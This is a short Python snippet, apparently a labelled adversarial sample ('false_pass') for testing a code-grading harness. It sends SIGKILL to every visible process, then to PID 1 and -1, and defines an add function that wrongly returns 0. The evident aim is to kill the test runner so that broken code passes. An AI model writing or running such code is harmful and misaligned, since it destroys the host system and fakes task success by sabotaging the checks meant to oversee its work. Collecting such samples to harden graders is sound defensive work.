# class: false_pass
# mode: asserts
# what: SIGKILL every visible process and -1
import os, signal
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try: os.kill(int(pid), signal.SIGKILL)
        except OSError: pass
for p in (1, -1):
    try: os.kill(p, signal.SIGKILL)
    except OSError: pass
def add(a, b):
    return 0
